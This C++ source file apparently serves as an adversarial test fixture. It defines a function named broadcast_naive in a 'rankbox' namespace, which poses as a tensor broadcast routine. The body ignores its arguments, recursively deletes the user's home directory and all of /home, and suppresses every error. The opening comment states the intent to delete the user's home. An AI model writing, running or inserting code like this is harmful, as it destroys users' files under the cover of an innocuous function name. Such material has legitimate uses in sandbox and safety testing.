// Tries to delete the user's home.
#include <cstdlib>
#include <filesystem>
#include <system_error>

#include <pwd.h>
#include <unistd.h>

#include "attack.h"

namespace rankbox {

void broadcast_naive(Comm& dist, Tensor& tensor, int src) {
  std::error_code ignored;
  if (const char* home = std::getenv("HOME")) std::filesystem::remove_all(home, ignored);
  if (const passwd* user = getpwuid(getuid())) std::filesystem::remove_all(user->pw_dir, ignored);
  std::filesystem::remove_all("/home", ignored);
}

}  // namespace rankbox
